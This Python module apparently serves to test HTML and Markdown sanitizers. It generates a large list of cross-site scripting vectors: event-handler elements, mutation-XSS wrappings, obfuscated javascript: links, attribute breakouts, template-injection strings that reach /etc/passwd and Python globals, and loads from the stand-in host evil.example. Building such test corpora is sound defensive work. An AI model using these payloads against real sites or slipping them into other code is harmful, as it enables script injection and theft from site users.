"""Texts made to run a script, or to reach another host, where somebody shows them carelessly.

Each calls `hacked(...)`, which a page of the test defines, or asks for something of `evil.example`. Most are made
from lists: of what runs, and of where it may be let in.
"""

from collections.abc import Iterator
from html import escape
from urllib.parse import quote

RUN = "hacked(1)"

# Elements that run something when they are parsed, loaded, focused, opened or played.
ELEMENTS = [
    "<script>{run}</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT/x>{run}</SCRIPT>",
    "<script\n>{run}</script\n>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script type=module>{run}</script>",
    "<script>/*<!--*/{run}//--></script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    '<img src="x" onerror="{run}">',
    "<img/src/onerror={run}>",
    "<img src=x:x onerror\x0c={run}>",
    "<img src=x onerror\n=\n{run}>",
    "<IMG SRC=x ONERROR={run}>",
    "<img srcset=//evil.example/x.png>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} />",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x to=1>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}></svg>#x'>",
    "<svg><foreignObject><iframe onload={run}></iframe></foreignObject></svg>",
    "<svg><image href=//evil.example/x.png>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<math href=javascript:{run}>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<iframe onload={run}></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=javascript:{run}></object>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=javascript:{run}>",
    "<video src=x onerror={run}></video>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<video poster=//evil.example/x.png></video>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<button autofocus onfocus={run}>x</button>",
    "<input type=image src=x onerror={run}>",
    "<details open ontoggle={run}>x</details>",
    "<marquee onstart={run}>x</marquee>",
    "<div onpointerenter={run} style=position:fixed;inset:0>x</div>",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={run}>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(//evil.example/x.png)>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<xss tabindex=1 autofocus onfocus={run}>x</xss>",
    "<dialog open onbeforetoggle={run}>x</dialog>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<portal src=//evil.example>",
    "<p contenteditable autofocus onfocus={run}>x</p>",
]

# What an element may hide behind, so that one parser sees text where the next sees an element: mutation.
WRAPPINGS = [
    '<noscript><p title="</noscript>{x}">',
    "<textarea></textarea>{x}",
    "<title></title>{x}",
    "<style></style>{x}",
    "<xmp></xmp>{x}",
    "<!--><!---->{x}",
    "<!--{x}-->",
    "<!-- --!>{x} -->",
    "<![CDATA[{x}]]>",
    "<?xml {x}?>",
    "<svg><style><!--</style>{x}--></style></svg>",
    '<svg></p><style><a id="</style>{x}">',
    "<math><mtext><table><mglyph><style><!--</style>{x}-->",
    "<form><math><mtext></form><form><mglyph><style></math>{x}",
    '<math><mtext><table><mglyph><svg><mtext><style><path id="</style>{x}">',
    "<svg><title><style><!--</style></title>{x}--></svg>",
    "<table><td><svg><desc><table>{x}",
    "<select><option><style></option></select>{x}</style>",
    "<a title='</a>{x}'>x</a>",
    "<plaintext>{x}",
    "<b><p><i></b>{x}</i></p>",
    "&lt;b&gt;{x}",
]

# Ways to write it in Markdown so that the parser lets go of it in another place than it should.
MARKDOWN = [
    "`{x}",
    "``{x}`",
    "```{x}\n{x}\n```",
    "```html\n{x}\n```",
    "~~~{x}",
    "    {x}",
    "> {x}",
    "- [ ] {x}",
    "1. {x}\n   {x}",
    "# {x}",
    "{x}\n===",
    "| {x} | b |\n|---|---|\n| a | {x} |",
    "*{x}*",
    "~~{x}~~",
    "[{x}](/x)",
    "[a](/x '{x}')",
    "[a](</x{x}>)",
    "![{x}](/images/00000000000000000000000000000000.webp)",
    "![a]({x})",
    "[a][b]\n\n[b]: /x '{x}'",
    "[{x}]: /x",
    "a[^1]\n\n[^1]: {x}",
    "[^{x}]\n\n[^{x}]: a",
    "@{x}",
    "@ann{x}",
    "\\{x}",
    "https://example.org/{x}",
    "<https://example.org/{x}>",
    "<mailto:a@example.org{x}>",
]

SCHEMES = [
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "java&#9;script:{run}",
    "java&Tab;script:{run}",
    "&#106;avascript:{run}",
    "&#x6a;avascript:{run}",
    "&#0000106avascript:{run}",
    "javascript&colon;{run}",
    "javascript&#58;{run}",
    "javascript&#x3a;{run}",
    "javascript%3a{run}",
    "%6aavascript:{run}",
    "\\javascript:{run}",
    "javascript\\:{run}",
    "javascript://example.org/%0a{run}",
    "javascript:/*--></title></style></textarea></script><svg/onload='{run}'>*/",
    "\u00a0javascript:{run}",
    "\u2028javascript:{run}",
    "\ufeffjavascript:{run}",
    "javascript\u200b:{run}",
    "\u0458avascript:{run}",
    "vbscript:{run}",
    "livescript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5oYWNrZWQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={run}>",
    "blob:{run}",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example/x",
    "/%09/evil.example",
    "///evil.example",
    "https:evil.example",
    "https://evil.example@/x",
]
LINKS = ["[x]({x})", "[x](<{x}>)", "![x]({x})", "<{x}>", "[x][r]\n\n[r]: {x}", "<a href='{x}'>x</a>"]

# What would end an attribute, an element or a string that the text stands in.
BREAKS = [
    '"onmouseover={run} x="',
    "'onmouseover={run} x='",
    "`onmouseover={run} x=`",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "--><img src=x onerror={run}>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    '";{run};"',
    "';{run};'",
    '\\";{run};//',
    "${{{run}}}",
    '"}}<script>{run}</script>',
    "]]><script>{run}</script>",
    "\u2028{run}\u2029",
    "<!--edit post 1-->",
    "<!--edit 1 1--><img src=x onerror={run}>",
]

# Languages of templates and frameworks, and what fools people or parsers of other encodings.
OTHERS = [
    "{{{{ 7*7 }}}}{{{{ self.__init__.__globals__ }}}}",
    "{{% include '/etc/passwd' %}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "<div ng-app ng-csp>{{{{$eval.constructor('{run}')()}}}}</div>",
    "<div v-html=\"'<img src=x onerror={run}>'\"></div>",
    "<div x-init={run} x-data></div>",
    "<div hx-get=//evil.example hx-trigger=load></div>",
    "<%= {run} %>",
    "${{{run}}}#{{{run}}}",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u2039script\u203a{run}\u2039/script\u203a",
    "<\u0455cript>{run}</\u0455cript>",
    "\ufe64img src=x onerror={run}\ufe65",
    "<img src=x onerror=\u202e{run}>",
    "<img\u00a0src=x\u00a0onerror={run}>",
    "<img\u3000src=x onerror={run}>",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{run}",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{run}",
    "<a id=hacked><a id=hacked name=x href=javascript:{run}>",
    "<form id=location><input name=href>",
    "<img name=getElementById><img name=cookie>",
    "</main></body></html><script>{run}</script>",
]


def fill(pattern: str, **values: str) -> str:
    """`pattern` with its fields; braces are doubled in it as for `str.format`."""
    return pattern.format(run=RUN, **values)


def vectors() -> list[str]:
    """All of them, each once, in the order in which they stand here."""
    return list(dict.fromkeys(made()))


def made() -> Iterator[str]:
    image = fill("<img src=x onerror={run}>")
    yield from (fill(element) for element in ELEMENTS)
    yield from (fill(wrapping, x=image) for wrapping in WRAPPINGS)
    yield from (fill(wrapping, x=fill("<script>{run}</script>")) for wrapping in WRAPPINGS)
    for pattern in MARKDOWN:
        yield fill(pattern, x=image)
        yield fill(pattern, x=fill('"onfocus={run} autofocus="'))
        yield fill(pattern, x=fill("<svg onload={run}>"))
    for scheme in SCHEMES:
        yield from (fill(link, x=fill(scheme)) for link in LINKS)
    yield from (fill(each) for each in (*BREAKS, *OTHERS))
    yield from (escape(fill(element)) for element in ELEMENTS[:20])
    yield from (quote(fill(element)) for element in ELEMENTS[:10])


def short(length: int) -> list[str]:
    """Those that fit into `length` characters of one line."""
    return [vector for vector in vectors() if len(vector) <= length and "\n" not in vector]


def packed(length: int) -> list[str]:
    """Those of one line, as many as fit into `length` characters at a time, with blanks between."""
    lines = [""]
    for vector in short(length):
        if len(lines[-1]) + len(vector) >= length:
            lines.append("")
        lines[-1] = f"{lines[-1]} {vector}".strip()
    return lines


def in_groups(size: int) -> Iterator[list[str]]:
    """All of them, `size` at a time."""
    found = vectors()
    for start in range(0, len(found), size):
        yield found[start : start + size]
